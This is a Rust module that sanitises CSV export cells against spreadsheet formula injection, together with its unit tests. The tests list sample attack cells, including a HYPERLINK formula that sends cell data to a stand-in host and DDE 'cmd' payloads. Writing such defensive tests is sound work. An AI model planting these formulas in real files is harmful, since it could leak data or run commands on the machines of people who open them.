//! CSV for spreadsheets. A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return is a formula to Excel, LibreOffice and Google Sheets (CSV injection): such cells
//! get a leading `'`, which every spreadsheet shows as text and never evaluates. Every CSV
//! export goes through `CsvExport`, so no export can forget it.

use std::borrow::Cow;

use super::error::ApiError;

pub struct CsvExport {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvExport {
    pub fn new() -> Self {
        CsvExport { writer: csv::Writer::from_writer(Vec::new()) }
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), ApiError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells.into_iter().map(|c| inert(c.as_ref()).into_owned()).collect();
        self.writer.write_record(&cells).map_err(|e| ApiError::Internal(e.into()))
    }

    pub fn finish(self) -> Result<Vec<u8>, ApiError> {
        self.writer.into_inner().map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))
    }
}

impl Default for CsvExport {
    fn default() -> Self {
        Self::new()
    }
}

/// The cell as text a spreadsheet will not evaluate.
pub fn inert(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_plain_cells_stay() {
        for attack in [
            r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|x",
            "@SUM(1+1)*cmd|x",
            "\t=1+1",
            "\r=1+1",
        ] {
            let safe = inert(attack);
            assert!(safe.starts_with('\''), "{attack:?} → {safe:?}");
            assert_eq!(&safe[1..], attack, "the text itself is kept");
        }
        for plain in ["google", "", "2026-12-01T00:00:00Z", "12.5", "a=b"] {
            assert_eq!(inert(plain), plain);
        }
    }

    #[test]
    fn a_whole_export_is_neutralised() {
        let mut csv = CsvExport::new();
        csv.row(["id", "utm_source"]).expect("row");
        csv.row(["1", "=1+1"]).expect("row");
        let text = String::from_utf8(csv.finish().expect("csv")).expect("utf-8");
        assert_eq!(text, "id,utm_source\n1,'=1+1\n");
    }
}
